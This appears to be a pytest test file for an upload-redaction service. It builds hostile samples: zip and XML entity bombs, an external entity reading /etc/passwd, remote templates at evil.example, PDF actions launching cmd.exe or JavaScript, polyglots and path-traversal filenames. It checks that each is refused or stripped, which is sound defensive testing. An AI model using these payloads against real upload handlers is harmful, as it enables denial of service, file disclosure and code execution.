"""Hostile uploads: each is refused in words or made harmless, in bounded time and memory; the next one is served."""

from __future__ import annotations

import io
import os
import random
import sys
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from PIL import Image

from intake import apart, words
from intake.form import Box, Refused, Upload, check
from intake.redact import RedactedFile, redact
from tests.unit.intake.samples import (
    BOX,
    MAIN,
    NOON,
    OFFICE,
    SECRET,
    assemble,
    docx,
    holds,
    huge_png,
    jpeg,
    paragraph,
    pdf,
    picture,
    png,
    stream,
    submission,
    with_file,
)

TEXT = paragraph("Chữ thường.")


def taken(data: bytes, *boxes: Box, name: str = "x") -> RedactedFile:
    (found,) = redact(with_file(data, *boxes, declared=not boxes, name=name), now=NOON).files
    return found


def refused(data: bytes) -> str:
    """The code of the one fault that the file is refused for."""
    with pytest.raises(Refused) as caught:
        taken(data)
    (fault,) = caught.value.faults
    assert fault.field == "files.0"
    shown = {message.format(n=1, pages="1", page=1): code for code, message in words.FILE.items()}
    return shown[fault.message_vi]


def relation(kind: str, target: str) -> str:
    return f'<Relationship Id="r9" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'


def zipped(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for path, data in entries.items():
            package.writestr(path, data)
    return out.getvalue()


def encrypted(data: bytes) -> bytes:
    """The encryption flag set in both headers of the first entry."""
    found = bytearray(data)
    found[6] |= 1
    central = data.index(b"PK\x01\x02")
    found[central + 8] |= 1
    return bytes(found)


def lying(data: bytes, path: bytes, said: int) -> bytes:
    """The central directory says that the part ``path`` unpacks to ``said`` bytes."""
    found = bytearray(data)
    at = data.rindex(path) - 46
    assert data[at : at + 4] == b"PK\x01\x02"
    found[at + 24 : at + 28] = said.to_bytes(4, "little")
    return bytes(found)


def locked() -> bytes:
    """A PDF with a standard security handler whose password nobody has."""
    key = "<" + "11" * 32 + ">"
    data = pdf([["a"]])
    handler = f"/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O {key} /U {key} >> /ID [<00><00>]"
    return data.replace(b"trailer << ", f"trailer << {handler} ".encode())


def crowded() -> bytes:
    """One page of more objects than any page of a letter has."""
    content = "0 0 1 1 re f " * 120_000
    page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
    return assemble(
        ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, stream(content)]
    )


ENTITIES = "<!DOCTYPE w [" + "".join(
    f'<!ENTITY e{k + 1} "{f"&e{k};" * 10}">' if k else '<!ENTITY e1 "ha">' for k in range(10)
) + "]>"  # fmt: skip
REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    # DOCX
    "zip bomb in the text": (lambda: docx(TEXT + " " * (60 << 20)), "bomb"),
    "zip bomb beside the text": (lambda: docx(TEXT, parts={"word/media/a.bmp": bytes(90 << 20)}), "bomb"),
    "zip bomb that lies about its size": (
        lambda: lying(docx(TEXT + " " * (60 << 20)), b"word/document.xml", 900),
        "broken",
    ),
    "too many entries": (lambda: docx(TEXT, parts={f"word/x{k}.xml": "" for k in range(2001)}), "bomb"),
    "macros": (lambda: docx(TEXT, parts={"word/vbaProject.bin": b"x"}), "macros"),
    "macros by type": (lambda: docx(TEXT, main="application/vnd.ms-word.document.macroEnabled.main+xml"), "macros"),
    "ActiveX": (lambda: docx(TEXT, parts={"word/activeX/activeX1.xml": "<a/>"}), "macros"),
    "remote template": (
        lambda: docx(TEXT, relations=relation("attachedTemplate", "http://evil.example/t.dotm")),
        "external",
    ),
    "remote picture": (lambda: docx(TEXT, relations=relation("image", "http://evil.example/i.png")), "external"),
    "remote object": (lambda: docx(TEXT, relations=relation("oleObject", "file://c:/x")), "external"),
    "entity bomb": (lambda: docx(TEXT, parts={"word/document.xml": f"{ENTITIES}<w>&e9;</w>"}), "broken"),
    "external entity": (
        lambda: docx(
            TEXT, parts={"word/document.xml": '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w>&x;</w>'}
        ),
        "broken",
    ),
    "deep XML": (lambda: docx("<w:p>" * 5000 + "</w:p>" * 5000), "broken"),
    "not XML": (lambda: docx(TEXT, parts={"word/document.xml": b"\x00\x01"}), "broken"),
    "encrypted zip": (lambda: encrypted(docx(TEXT)), "encrypted"),
    "a spreadsheet": (lambda: zipped({"[Content_Types].xml": b"<a/>", "xl/workbook.xml": b"<a/>"}), "not_docx"),
    "any zip": (lambda: zipped({"a.txt": b"a"}), "not_docx"),
    "truncated zip": (lambda: docx(TEXT)[:-40], "broken"),
    "a text without end": (lambda: docx(paragraph("chữ " * 40_000)), "text_too_long"),
    # pictures
    "PNG bomb": (lambda: huge_png(30_000, 30_000), "too_many_pixels"),
    "PNG bomb just over": (lambda: huge_png(6_000, 5_000), "too_many_pixels"),
    "PNG that is a thread": (lambda: huge_png(1, 100_000), "too_many_pixels"),
    "truncated PNG": (lambda: png()[:200], "broken"),
    "truncated JPEG": (lambda: jpeg("x")[:600], "broken"),
    "only the magic of a PNG": (lambda: b"\x89PNG\r\n\x1a\n", "broken"),
    "only the magic of a WebP": (lambda: b"RIFF\x00\x00\x00\x00WEBP", "broken"),
    "JPEG magic before a text": (lambda: b"\xff\xd8\xff" + b"<script>" * 50, "broken"),
    "SVG": (lambda: b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>", "unknown"),
    "HTML": (lambda: b"<!doctype html><script>alert(1)</script>", "unknown"),
    "TIFF": (lambda: b"II*\x00" + bytes(100), "unknown"),
    "PostScript": (lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n", "unknown"),
    "an executable": (lambda: b"MZ" + bytes(100), "unknown"),
    "old Word": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100), "old_office"),
    # PDF
    "10,000 pages": (lambda: pdf([["a"]] * 10_000), "too_many_pages"),
    "a page too many": (lambda: pdf([["a"]] * 21), "too_many_pages"),
    "no pages": (lambda: pdf([]), "broken"),
    "only the magic of a PDF": (lambda: b"%PDF-1.7\n", "broken"),
    "PDF of noise": (lambda: b"%PDF-1.7\n" + random.Random(1).randbytes(50_000), "broken"),
    "encrypted PDF": (locked, "encrypted"),
    "PDF of half a million objects": (crowded, "too_heavy"),
}


@pytest.mark.parametrize("case", REFUSED)
def test_refused_with_its_reason(case: str) -> None:
    make, code = REFUSED[case]
    data = make()
    assert len(data) <= 10 << 20, "the case must be one that the size alone does not stop"
    assert refused(data) == code


def test_after_any_of_them_the_next_file_is_served() -> None:
    for case in ("PNG bomb", "entity bomb", "PDF of noise"):
        assert refused(REFUSED[case][0]())
        assert taken(png(), BOX).media_type == "image/png"


def test_one_bad_file_is_named_and_nothing_of_the_others_is_kept() -> None:
    files = (Upload("a", png(), (BOX,)), Upload("b", png()[:200], (BOX,)), Upload("c", docx("<w:p/>")))
    with pytest.raises(Refused) as caught:
        redact(submission(files=files), now=NOON)
    assert [f.field for f in caught.value.faults] == ["files.1", "files.2"]


@pytest.mark.parametrize(
    "tail",
    [b"PK\x03\x04" + SECRET.encode(), b"<script>" + SECRET.encode() + b"</script>", b"%PDF-1.4 " + SECRET.encode(),
     docx(paragraph(SECRET))],
    ids=["zip", "script", "pdf", "docx"],
)  # fmt: skip
@pytest.mark.parametrize("image", [png(), jpeg("x")], ids=["png", "jpeg"])
def test_of_a_polyglot_only_the_picture_is_left(image: bytes, tail: bytes) -> None:
    found = taken(image + tail, BOX)
    assert not holds(found.data, SECRET)
    assert b"PK\x03\x04" not in found.data
    assert b"script" not in found.data
    with Image.open(io.BytesIO(found.data)) as opened:
        assert opened.format == "PNG"


def test_of_a_pdf_that_is_also_a_zip_only_the_pages_are_left() -> None:
    found = taken(pdf([["chu thuong"]]) + docx(paragraph(SECRET)))
    assert found.media_type == "application/pdf"
    assert not holds(found.data, SECRET)
    assert b"PK\x03\x04" not in found.data


@pytest.mark.parametrize(
    "extra",
    [
        {"OpenAction": "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"},
        {"OpenAction": "<< /S /Launch /F (cmd.exe) >>"},
        {"AA": "<< /WC << /S /URI /URI (http://evil.example) >> >>"},
        {"AcroForm": "<< /XFA (x) /Fields [] >>"},
        {"Metadata": "4 0 R"},
    ],
    ids=str,
)
def test_actions_of_a_pdf_are_gone(extra: dict[str, str]) -> None:
    found = taken(pdf([["chu thuong"]], extra=extra))
    for gone in (
        b"JavaScript",
        b"/JS",
        b"/Launch",
        b"cmd.exe",
        b"evil.example",
        b"/XFA",
        b"/OpenAction",
        b"/AA",
        b"/Metadata",
    ):
        assert gone not in found.data


@pytest.mark.parametrize(
    "name", ["../../../etc/passwd", "C:\\Windows\\x.png", f"{SECRET}\u202egnp.exe", "a\x00.png", "x" * 5000, ""]
)
def test_a_file_name_never_goes_further(name: str) -> None:
    sub = with_file(png(), BOX, name=name)
    assert check(sub, now=NOON) == []
    found = redact(sub, now=NOON)
    assert found.files[0].name == "tep-1.png"
    assert not name or name not in repr(found)


def test_mutations_of_good_files_never_crash() -> None:
    """Sixty files with bytes changed at random: taken or refused in words, never anything else."""
    chance = random.Random(20260106)
    good = [png(secret="x"), jpeg("x"), pdf([["Chữ thường", "0912345678"]]), docx(TEXT)]
    for turn in range(60):
        data = bytearray(good[turn % len(good)])
        for _ in range(chance.choice([1, 3, 20])):
            data[chance.randrange(8, len(data))] = chance.randrange(256)
        try:
            assert taken(bytes(data)).data
        except Refused as no:
            assert all(fault.field == "files.0" for fault in no.faults)


@pytest.mark.skipif(sys.platform != "linux", reason="limits of memory are kept on Linux")
def test_a_file_that_wants_all_memory_costs_only_itself(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(apart, "_START", "import resource; x = bytearray(1 << 40)")
    with pytest.raises(apart.Unusable, match="broken"):
        apart.run("image", b"")


def test_a_file_that_never_ends_is_ended(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(apart, "_START", "while True: pass")
    monkeypatch.setattr(apart, "WALL_S", 0.3)
    before = time.monotonic()
    with pytest.raises(apart.Unusable, match="too_heavy"):
        apart.run("image", b"")
    assert time.monotonic() - before < 60


def test_a_file_that_kills_the_reader_costs_only_itself(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(apart, "_START", "import os; os.kill(os.getpid(), 11)")
    with pytest.raises(apart.Unusable, match="broken"):
        apart.run("image", b"")


def test_the_reader_sees_no_settings_and_cannot_write(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HAIDANG_SMTP_PASSWORD", "bimat")
    look = (
        f"import os, sys; sys.path.insert(0, {str(apart._ROOT)!r}); from intake import apart, worker; worker._limit()\n"
        f"try:\n with open({str(tmp_path / 'x')!r}, 'wb') as f: f.write(b'x'); wrote = True\n"
        "except OSError: wrote = False\n"
        "sys.stdout.buffer.write(apart.pack({'names': sorted(os.environ), 'wrote': wrote}, []))"
    )
    monkeypatch.setattr(apart, "_START", "import signal; signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n" + look)
    answer, _ = apart.run("image", b"")
    assert "HAIDANG_SMTP_PASSWORD" in os.environ
    assert not any(name.startswith("HAIDANG") for name in answer["names"])
    assert answer["wrote"] is False


def test_declared_media_types_are_what_the_bytes_are() -> None:
    assert picture(taken(png(), BOX).data).format == "PNG"
    assert taken(pdf([["a"]])).data.startswith(b"%PDF-")
    assert taken(docx(TEXT, main=MAIN)).data.decode("utf-8") == "Chữ thường.\n"
